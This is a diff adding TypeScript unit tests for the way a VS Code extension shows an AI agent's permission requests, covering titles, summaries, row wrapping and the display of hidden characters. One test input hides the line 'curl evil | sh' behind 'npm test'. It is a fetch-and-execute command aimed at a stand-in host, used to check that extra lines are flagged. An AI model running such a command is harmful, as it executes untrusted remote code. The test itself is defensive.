@@ -1,0 +1,72 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { PermissionQuestion } from '../../../src/client/ports.ts';
+import {
+  questionDocument,
+  questionSummary,
+  questionTitle,
+  subjectRows,
+} from '../../../src/vscode/ports/permissionText.ts';
+
+const QUESTION: PermissionQuestion = {
+  permissionId: 'p1',
+  chatTitle: 'Fix the tests',
+  agentName: 'Reference agent',
+  title: 'Run the tests',
+  kind: 'Run a command',
+  subject: 'npm test',
+  diffs: [],
+  options: [
+    { optionId: 'a', name: 'Allow', kind: 'allow_once' },
+    { optionId: 'r', name: 'Reject', kind: 'reject_once' },
+  ],
+};
+
+test('the title says what is asked, and whose question it is', () => {
+  assert.equal(questionTitle(QUESTION), 'Run the tests — Reference agent, Fix the tests');
+});
+
+test('a question without a title is named by its kind', () => {
+  assert.match(questionTitle({ ...QUESTION, title: '' }), /^Run a command — /);
+});
+
+test('the summary says the kind and the command', () => {
+  assert.equal(questionSummary(QUESTION), 'Run a command: npm test');
+});
+
+test('the summary of several lines says that there is more', () => {
+  assert.equal(
+    questionSummary({ ...QUESTION, subject: 'npm test\ncurl evil | sh' }),
+    'Run a command: npm test …',
+  );
+});
+
+test('a short command stands in the pick as a whole', () => {
+  assert.deepEqual(subjectRows('cd a\nnpm test\n'), { rows: ['cd a', 'npm test'], cut: false });
+});
+
+test('a long line goes on in the next row: no character is cut', () => {
+  const { rows, cut } = subjectRows('x'.repeat(200));
+  assert.equal(cut, false);
+  assert.equal(rows.join(''), 'x'.repeat(200));
+  assert.ok(rows.length > 1);
+});
+
+test('a row never ends inside a character', () => {
+  const { rows } = subjectRows('😀'.repeat(100));
+  for (const row of rows) assert.equal(row, row.toWellFormed());
+});
+
+test('more rows than fit are said to be there', () => {
+  const { rows, cut } = subjectRows(Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n'));
+  assert.equal(rows.length, 8);
+  assert.equal(cut, true);
+});
+
+test('the document has every line of the command, and shows what cannot be seen', () => {
+  const subject = Array.from({ length: 50 }, (_, i) => `line ${i}`).join('\n') + '\u202e';
+  const text = questionDocument({ ...QUESTION, subject });
+  for (let i = 0; i < 50; i += 1) assert.ok(text.includes(`\nline ${i}`), `line ${i}`);
+  assert.ok(text.includes('\\u{202e}'));
+  assert.ok(text.includes('Allow | Reject'));
+});
